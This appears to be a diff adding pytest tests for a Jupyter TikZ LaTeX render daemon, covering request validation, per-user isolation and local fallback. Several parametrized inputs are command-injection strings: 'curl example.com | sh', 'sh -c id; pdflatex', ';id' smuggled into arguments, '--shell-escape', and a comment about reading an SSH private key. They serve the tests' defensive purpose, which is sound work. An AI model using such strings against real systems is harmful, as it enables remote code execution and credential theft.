@@ -0,0 +1,420 @@
+import base64
+import os
+import socket
+import subprocess
+import threading
+from concurrent.futures import Future, ThreadPoolExecutor
+from concurrent.futures.process import BrokenProcessPool
+from pathlib import Path
+
+import pytest
+from IPython import display
+
+from jupyter_tikz import TexDocument, jupyter_tikz, render_daemon
+from jupyter_tikz.jupyter_tikz import _recv_message, _send_message
+from jupyter_tikz.render_daemon import RenderDaemon, _check_request, _render_request
+from tests.conftest import *
+
+pytestmark = pytest.mark.skipif(os.name != "posix", reason="Needs Unix sockets")
+
+
+def make_request(client=1, latex=EXAMPLE_GOOD_TEX, **kwargs):
+    return {
+        "client": client,
+        "cwd": os.getcwd(),
+        "latex": latex,
+        "tex_program": "pdflatex",
+        "tex_args": None,
+        "rasterize": False,
+        "full_err": False,
+        "dpi": 96,
+        "grayscale": False,
+        "cache": False,
+        "max_passes": 3,
+        "aux_key": None,
+        "converter": "pdftocairo",
+        **kwargs,
+    }
+
+
+def rendered(request):
+    return {
+        "ok": True,
+        "pdf": base64.b64encode(b"pdf").decode(),
+        "image": base64.b64encode(request["latex"].encode()).decode(),
+    }
+
+
+@pytest.fixture
+def socket_path(tmp_path, monkeypatch):
+    socket_path = tmp_path / "run" / "daemon.sock"
+    monkeypatch.setenv("JUPYTER_TIKZ_DAEMON_SOCKET", str(socket_path))
+    return socket_path
+
+
+@pytest.fixture
+def running_daemon(socket_path, mocker):
+    render_mock = mocker.patch.object(
+        render_daemon, "_render_request", side_effect=rendered
+    )
+    daemon = RenderDaemon(workers=2, executor=ThreadPoolExecutor(max_workers=2))
+    thread = threading.Thread(target=daemon.serve_forever)
+    thread.start()
+    while not socket_path.exists():
+        pass
+    yield render_mock
+    daemon.shutdown()
+    thread.join()
+
+
+@pytest.fixture
+def mock_display(mocker):
+    mocker.patch.object(display, "SVG", side_effect=lambda path: path.read_text())
+
+
+def test_run_latex_with_daemon(
+    running_daemon, mock_display, mocker, monkeypatch, tmp_path
+):
+    # Arrange
+    monkeypatch.chdir(tmp_path)
+    run_mock = mocker.patch.object(jupyter_tikz, "_run_process")
+    tex_document = TexDocument(EXAMPLE_GOOD_TEX)
+
+    # Act
+    res = tex_document.run_latex(save_pdf="saved", tex_args="-synctex=1")
+
+    # Assert
+    assert res == tex_document.full_latex
+    run_mock.assert_not_called()
+    assert Path("saved.pdf").read_text() == "pdf"
+    request = running_daemon.call_args.args[0]
+    assert request["client"] == os.getpid()
+    assert request["cwd"] == str(tmp_path)
+    assert request["tex_args"] == "-synctex=1"
+
+
+@pytest.mark.parametrize(
+    "tex_program, tex_args",
+    [
+        ("pdflatex", "--shell-escape"),
+        ("pdflatex", "-output-directory=/tmp"),
+        ("curl example.com | sh; pdflatex", None),
+    ],
+)
+def test_run_latex_unsafe_commands_run_locally(
+    running_daemon, mocker, monkeypatch, tmp_path, tex_program, tex_args
+):
+    # Arrange
+    monkeypatch.chdir(tmp_path)
+    run_mock = mocker.patch.object(
+        jupyter_tikz,
+        "_run_process",
+        return_value=subprocess.CompletedProcess("dummy_command", 1, "", ""),
+    )
+
+    # Act
+    TexDocument(EXAMPLE_GOOD_TEX).run_latex(tex_program=tex_program, tex_args=tex_args)
+
+    # Assert
+    running_daemon.assert_not_called()
+    run_mock.assert_called_once()
+
+
+@pytest.mark.parametrize(
+    "fields, expected_err",
+    [
+        ({}, None),
+        ({"tex_args": "-interaction=nonstopmode -synctex=1"}, None),
+        ({"tex_program": "sh -c id; pdflatex"}, "does not run this TeX program"),
+        ({"tex_args": "-shell-escape"}, "does not run this TeX program"),
+        ({"tex_args": "-synctex=1;id"}, "does not run this TeX program"),
+        ({"dpi": "96 -x; id"}, "Invalid request field `dpi`."),
+        ({"converter": "sh"}, "`sh` is not a valid converter."),
+    ],
+)
+def test_check_request(fields, expected_err):
+    # Act
+    res = _check_request(make_request(**fields))
+
+    # Assert
+    if expected_err is None:
+        assert res is None
+    else:
+        assert expected_err in res
+
+
+def test_daemon_refuses_unsafe_requests(running_daemon, socket_path):
+    # Act
+    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as client:
+        client.connect(str(socket_path))
+        _send_message(client, make_request(tex_program="curl example.com | sh;"))
+        response = _recv_message(client)
+
+    # Assert
+    assert not response["ok"] and response["retry_locally"]
+    running_daemon.assert_not_called()
+
+
+def test_daemon_replaces_broken_process_pool(mocker):
+    # Arrange
+    class BrokenExecutor(ThreadPoolExecutor):
+        def submit(self, fn, *args, **kwargs):
+            future = Future()
+            future.set_exception(BrokenProcessPool("A worker was killed"))
+            return future
+
+    executors = [BrokenExecutor(max_workers=1), ThreadPoolExecutor(max_workers=1)]
+    mocker.patch.object(RenderDaemon, "_new_executor", side_effect=executors)
+    mocker.patch.object(render_daemon, "_render_request", side_effect=rendered)
+    daemon = RenderDaemon(workers=1)
+    daemon._server = object()  # Running
+    dispatcher = threading.Thread(target=daemon._dispatch)
+    dispatcher.start()
+
+    # Act
+    first = daemon.submit(make_request(latex="first")).result(5)
+    second = daemon.submit(make_request(latex="second")).result(5)
+    with daemon._condition:
+        daemon._server = None
+        daemon._condition.notify_all()
+    dispatcher.join()
+
+    # Assert
+    assert not first["ok"] and first["retry_locally"]
+    assert second["ok"]
+    assert daemon._executor is executors[1]
+
+
+def test_run_latex_daemon_errors_run_locally(
+    running_daemon, mocker, monkeypatch, tmp_path
+):
+    # Arrange
+    monkeypatch.chdir(tmp_path)
+    running_daemon.side_effect = BrokenProcessPool("A worker was killed")
+    run_mock = mocker.patch.object(
+        jupyter_tikz,
+        "_run_process",
+        return_value=subprocess.CompletedProcess("dummy_command", 1, "", ""),
+    )
+
+    # Act
+    TexDocument(EXAMPLE_GOOD_TEX).run_latex()
+
+    # Assert
+    run_mock.assert_called_once()
+
+
+def test_run_latex_hung_daemon_runs_locally(socket_path, mocker, monkeypatch, tmp_path):
+    # Arrange
+    monkeypatch.chdir(tmp_path)
+    monkeypatch.setenv("JUPYTER_TIKZ_DAEMON_TIMEOUT", "0.1")
+    socket_path.parent.mkdir()
+    server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+    server.bind(str(socket_path))
+    server.listen()  # Never answers
+    run_mock = mocker.patch.object(
+        jupyter_tikz,
+        "_run_process",
+        return_value=subprocess.CompletedProcess("dummy_command", 1, "", ""),
+    )
+
+    # Act
+    try:
+        TexDocument(EXAMPLE_GOOD_TEX).run_latex()
+    finally:
+        server.close()
+
+    # Assert
+    run_mock.assert_called_once()
+
+
+def test_run_latex_with_daemon_error(
+    running_daemon, mock_display, monkeypatch, tmp_path, capsys
+):
+    # Arrange
+    (tmp_path / "work").mkdir()
+    monkeypatch.chdir(tmp_path / "work")
+    running_daemon.side_effect = lambda request: {"ok": False, "error": "! Error"}
+    tex_document = TexDocument(EXAMPLE_GOOD_TEX)
+
+    # Act
+    res = tex_document.run_latex()
+
+    # Assert
+    assert res is None
+    assert capsys.readouterr().err == "! Error\n"
+    assert list((tmp_path / "work").iterdir()) == []
+
+
+def test_run_latex_without_daemon(socket_path, mocker, monkeypatch, tmp_path):
+    # Arrange
+    monkeypatch.chdir(tmp_path)
+    socket_path.parent.mkdir()
+    socket_path.touch()  # Left by a stopped daemon
+    run_mock = mocker.patch.object(
+        jupyter_tikz,
+        "_run_process",
+        return_value=subprocess.CompletedProcess("dummy_command", 1, "", ""),
+    )
+
+    # Act
+    TexDocument(EXAMPLE_GOOD_TEX).run_latex()
+
+    # Assert
+    run_mock.assert_called_once()
+
+
+def test_daemon_deduplicates_requests():
+    # Arrange
+    release = threading.Event()
+    executor = ThreadPoolExecutor(max_workers=1)
+    daemon = RenderDaemon(workers=1, executor=executor)
+    calls = []
+
+    def render(request):
+        calls.append(request["client"])
+        release.wait()
+        return rendered(request)
+
+    # Act
+    futures = [daemon.submit(make_request(client=client)) for client in [1, 2]]
+    futures.append(daemon.submit(make_request(client=3, full_err=True)))
+    with daemon._condition:
+        key, request = daemon._next_request()
+    executor.submit(render, request)
+    release.set()
+    executor.shutdown()
+
+    # Assert
+    assert futures[0] is futures[1] is futures[2]
+    assert calls == [1]
+    assert not daemon._queues
+
+
+def test_daemon_serves_clients_in_turn():
+    # Arrange
+    daemon = RenderDaemon(workers=1, executor=ThreadPoolExecutor(max_workers=1))
+    for index in range(3):
+        daemon.submit(make_request(client="a", latex=f"a{index}"))
+    daemon.submit(make_request(client="b", latex="b0"))
+    daemon.submit(make_request(client="c", latex="c0"))
+
+    # Act
+    with daemon._condition:
+        order = [daemon._next_request()[1]["latex"] for _ in range(5)]
+
+    # Assert
+    assert order == ["a0", "b0", "c0", "a1", "a2"]
+
+
+def test_daemon_refuses_to_start_twice(running_daemon, socket_path):
+    # Arrange
+    daemon = RenderDaemon(executor=ThreadPoolExecutor(max_workers=1))
+
+    # Act & Assert
+    with pytest.raises(RuntimeError, match="A render daemon is running"):
+        daemon.serve_forever()
+
+
+def test_render_request(mocker, tmp_path, monkeypatch):
+    # Arrange
+    monkeypatch.chdir(tmp_path)
+    monkeypatch.setenv("JUPYTER_TIKZ_NO_DAEMON", "1")
+    monkeypatch.delenv("TEXINPUTS", raising=False)
+    monkeypatch.delenv("openin_any", raising=False)
+    environments = []
+
+    def run(command, **kwargs):
+        _ = kwargs
+        environments.append({**os.environ})
+        output = Path(command.split()[-1])
+        if command.startswith("pdftocairo"):
+            output.write_text("image")
+        else:
+            output.with_suffix(".pdf").write_text("pdf")
+        return subprocess.CompletedProcess(command, 0, "", "")
+
+    mocker.patch.object(jupyter_tikz, "_run_process", side_effect=run)
+    mocker.patch.object(display, "SVG")
+
+    # Act
+    res = _render_request(make_request())
+
+    # Assert
+    assert res == {
+        "ok": True,
+        "resource_usage": {},
+        "pdf": base64.b64encode(b"pdf").decode(),
+        "image": base64.b64encode(b"image").decode(),
+    }
+    assert environments[0]["TEXINPUTS"] == str(tmp_path) + os.pathsep
+    # Documents cannot read e.g. `\input{/home/owner/.ssh/id_rsa}`
+    assert environments[0]["openin_any"] == environments[0]["openout_any"] == "p"
+    assert "TEXINPUTS" not in os.environ and "openin_any" not in os.environ
+    assert os.getcwd() == str(tmp_path)
+    assert list(tmp_path.iterdir()) == []  # Rendered in a temporary directory
+
+
+@pytest.mark.parametrize(
+    "uid, aux_key, expected_aux_key",
+    [
+        (1000, "cell", "1000:cell"),
+        (1001, "cell", "1001:cell"),
+        (None, "cell", None),  # Unknown user
+        (1000, None, None),
+    ],
+)
+def test_render_request_aux_key_per_user(
+    mocker, tmp_path, monkeypatch, uid, aux_key, expected_aux_key
+):
+    # Arrange
+    monkeypatch.chdir(tmp_path)
+    run_latex_mock = mocker.patch.object(TexDocument, "run_latex", return_value=None)
+
+    # Act
+    _render_request(make_request(uid=uid, aux_key=aux_key))
+
+    # Assert
+    assert run_latex_mock.call_args.kwargs["aux_key"] == expected_aux_key
+
+
+def test_daemon_sets_the_uid_of_the_client(running_daemon, socket_path):
+    # Act
+    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as client:
+        client.connect(str(socket_path))
+        _send_message(client, make_request(uid=12345, aux_key="cell"))
+        response = _recv_message(client)
+
+    # Assert
+    assert response["ok"]
+    expected_uid = os.getuid() if hasattr(socket, "SO_PEERCRED") else None
+    assert running_daemon.call_args.args[0]["uid"] == expected_uid
+
+
+def test_daemon_does_not_share_renders_between_users():
+    # Arrange
+    daemon = RenderDaemon(workers=1, executor=ThreadPoolExecutor(max_workers=1))
+
+    # Act
+    first = daemon.submit(make_request(uid=1000, aux_key="cell"))
+    second = daemon.submit(make_request(uid=1001, aux_key="cell"))
+
+    # Assert
+    assert first is not second
+
+
+def test_render_request_error(mocker, tmp_path, monkeypatch):
+    # Arrange
+    monkeypatch.chdir(tmp_path)
+    monkeypatch.setenv("JUPYTER_TIKZ_NO_DAEMON", "1")
+    mocker.patch.object(
+        jupyter_tikz,
+        "_run_process",
+        return_value=subprocess.CompletedProcess("", 1, "! Undefined control", ""),
+    )
+
+    # Act
+    res = _render_request(make_request())
+
+    # Assert
+    assert res == {"ok": False, "error": "! Undefined control"}